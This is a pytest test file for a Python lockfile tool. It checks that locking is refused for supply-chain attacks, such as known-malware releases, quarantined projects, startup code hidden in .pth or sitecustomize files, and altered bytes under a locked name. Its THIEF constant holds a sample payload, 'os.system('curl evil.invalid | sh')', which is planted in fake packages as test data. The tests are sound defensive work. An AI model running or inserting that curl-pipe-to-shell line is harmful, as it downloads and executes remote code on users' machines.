"""Attacks on a lock: each is refused before anything is built or written."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from common.errors import LockError, UsageError
from lockfiles import lock, lockfile, policy
from tests.lockfiles.audit.records import affects
from tests.lockfiles.conftest import OLD, Known, built, versions
from tests.lockfiles.small_index import Index
from tests.lockfiles.test_lock import ask_for_toolkit, contents, days_ago

pytestmark = pytest.mark.slow
THIEF = "import os; os.system('curl evil.invalid | sh')\n"


def refused(locks: Path, message: str, upgrade: str = "") -> str:
    """Locking is refused, and every file is as it was."""
    before = contents(locks)
    with pytest.raises(LockError, match=message) as caught:
        lock.write_all(upgrade)
    assert contents(locks) == before
    assert "\n" not in caught.value.line()
    return caught.value.line()


def no_cooldown(locks: Path) -> None:
    (locks / "policy.toml").write_text((locks / "policy.toml").read_text().replace("days = 7", "days = 0"))


def malware(name: str, *versions: str) -> dict[str, object]:
    return affects(name, versions=versions, identifier="MAL-2026-1")


def test_a_malicious_release_inside_the_cooldown_is_not_seen(index: Index) -> None:
    lock.write_all()
    index.add("two", "1.0.1", uploaded=days_ago(1))
    lock.write_all("all")
    assert versions()["two"] == "1.0"


@pytest.mark.parametrize("upgrade", ["two", "all"])
def test_a_hijacked_minor_version_that_outlived_the_cooldown_is_refused(
    index: Index, locks: Path, known: Known, upgrade: str
) -> None:
    lock.write_all()
    index.add("two", "1.0.1", uploaded=OLD)
    known(malware("two", "1.0.1"))
    line = refused(locks, r"malware: two 1\.0\.1 \(MAL-2026-1\) \(lockfiles/small\.in\)", upgrade)
    assert "nothing was written" in line


def test_a_hijacked_version_that_is_pinned_is_refused_too(index: Index, locks: Path, known: Known) -> None:
    index.add("two", "1.0.1", uploaded=OLD)
    (locks / "small.in").write_text('requires = ["one", "two==1.0.1"]\n')
    known(malware("two", "1.0.1"))
    refused(locks, "malware: two 1.0.1")


def test_what_turned_out_to_be_malware_after_it_was_locked_is_refused_by_the_next_edit(
    index: Index, locks: Path, known: Known
) -> None:
    lock.write_all()
    known(malware("two", "1.0"))
    (locks / "small.in").write_text('requires = ["one", "three"]\n')
    refused(locks, "malware: two 1.0")


def test_malware_in_the_toolkit_is_refused(index: Index, locks: Path, known: Known) -> None:
    ask_for_toolkit("three")
    known(malware("three", "1.0"))
    refused(locks, r"malware: three 1\.0 \(MAL-2026-1\) \(pyproject\.toml\)")


def test_malware_is_refused_before_a_source_is_built(
    index: Index, locks: Path, known: Known, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.add_sdist("source", "1.0")
    no_cooldown(locks)
    (locks / "small.in").write_text(
        'requires = ["one", "source"]\n[sdists.source]\nversion = "1.0"\nrequires = ["two"]\nbuild = []\n'
    )
    known(malware("source", "1.0"))
    sources = built(monkeypatch)
    refused(locks, "malware: source 1.0")
    assert sources == []


def test_vex_excuses_no_malware(index: Index, locks: Path, known: Known) -> None:
    known(malware("two", "1.0"))
    keys = {"advisory": "MAL-2026-1", "package": "two", "status": "fixed", "reason": "we trust it", "until": "2999-01-01"}
    (locks / "vex.toml").write_text("[[vex]]\n" + "".join(f'{key} = "{value}"\n' for key, value in keys.items()))
    refused(locks, "malware: two 1.0")


def test_without_data_it_is_said_that_nobody_looked(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
    lock.write_all()
    assert " ".join(capsys.readouterr().err.split()).count("nobody looked for malware: no advisory data") == 1


@pytest.mark.parametrize("asked", ["two", "two==1.0", "two<2", "three"])
@pytest.mark.parametrize("html", [False, True], ids=["JSON", "HTML"])
def test_a_quarantined_project_is_named_as_such(index: Index, locks: Path, html: bool, asked: str) -> None:
    index.html = html
    index.status["two"] = ("quarantined", "stole tokens")
    no_cooldown(locks)
    (locks / "small.in").write_text(f'requires = ["one", "{asked}"]\n')
    refused(locks, "two is in quarantine on your index, which takes it for unsafe: 'stole tokens'")


def test_a_quarantined_project_whose_files_are_still_shown_is_refused(
    index: Index, locks: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lock.write_all()
    index.add("two", "1.1", uploaded=OLD)
    index.status["two"] = ("quarantined", "")
    index.hides = False
    refused(locks, "two is in quarantine", "two")


@pytest.mark.parametrize("status", ["archived", "deprecated"])
@pytest.mark.parametrize("html", [False, True], ids=["JSON", "HTML"])
def test_a_project_that_nobody_mends_any_more_is_locked_and_said(
    index: Index, locks: Path, status: str, html: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    index.html = html
    index.status["two"] = (status, "use three")
    lock.write_all()
    assert versions()["two"] == "1.0"
    assert f"two is {status} by those who made it: 'use three'" in " ".join(capsys.readouterr().err.split())


@pytest.mark.parametrize("file", ["x.pth", "sitecustomize.py", "one-2.0.data/purelib/usercustomize.py"])
def test_a_release_that_runs_code_at_each_start_is_refused(index: Index, locks: Path, file: str) -> None:
    lock.write_all()
    index.add("one", "2.0", uploaded=OLD, holds={file: THIEF})
    line = refused(locks, "one 2.0 brings code that runs at each start of Python", "one")
    assert hashlib.sha256(THIEF.encode()).hexdigest() in line


def allow(locks: Path, **more: str) -> None:
    keys = {"package": "one", "file": "x.pth", "sha256": hashlib.sha256(THIEF.encode()).hexdigest(), "reason": "ours", **more}
    text = (locks / "policy.toml").read_text() + "[[startup]]\n"
    (locks / "policy.toml").write_text(text + "".join(f'{key} = "{value}"\n' for key, value in keys.items()))


def test_code_at_start_that_is_allowed_is_allowed_with_just_that_content(index: Index, locks: Path) -> None:
    allow(locks)
    lock.write_all()
    index.add("one", "2.0", uploaded=OLD, holds={"x.pth": THIEF})
    lock.write_all("one")
    assert versions()["one"] == "2.0"
    index.add("one", "2.1", uploaded=OLD, holds={"x.pth": THIEF.replace("curl", "wget")})
    refused(locks, "one 2.1 brings code", "one")


@pytest.mark.parametrize("wrong", [{"sha256": "x"}, {"reason": " "}, {"note": "x"}])
def test_a_wrong_allowance_is_refused(index: Index, locks: Path, wrong: dict[str, str]) -> None:
    allow(locks, **wrong)
    with pytest.raises(UsageError, match=rf"startup\[0\]\.{next(iter(wrong))}"):
        policy.read()


def test_other_bytes_under_a_locked_name_are_refused(index: Index, locks: Path) -> None:
    lock.write_all()
    index.add("two", "1.0", uploaded=OLD, holds={"two.py": THIEF})
    (locks / "small.in").write_text('requires = ["one", "three"]\n')
    refused(locks, "your index has other bytes under this name than the lock")
    assert lockfile.read_set("small").wheels
